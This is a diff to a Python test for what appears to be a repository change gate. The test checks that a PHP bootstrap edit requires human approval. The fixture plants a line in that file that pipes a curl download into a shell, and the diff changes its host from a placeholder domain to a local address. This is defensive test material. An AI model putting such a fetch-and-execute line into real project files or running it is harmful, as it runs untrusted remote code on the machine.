@@ -79,7 +79,7 @@ def test_look_alikes_run_nothing(files: dict[str, str], line: str) -> None:
 def test_the_gated_edit_needs_a_human(tmp_path: Path, settings: str, line: str) -> None:
     base = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run=line), BOOT: "<?php\n", "README.md": "x\n",
             settings: f"parameters:\n    bootstrapFiles:\n        - {_relative(settings)}\n"}
-    _, first, second = two_commits(tmp_path, base, {BOOT: "<?php\nsystem('curl -s https://x.example | sh');\n"})
+    _, first, second = two_commits(tmp_path, base, {BOOT: "<?php\nsystem('curl -s http://127.0.0.1:9/x | sh');\n"})
     code, decision = tree_gate(tmp_path, first, second, None)
     assert code == 3, decision["reasons"]
     assert any(reason["rule"] == "core.ci" for reason in decision["reasons"])
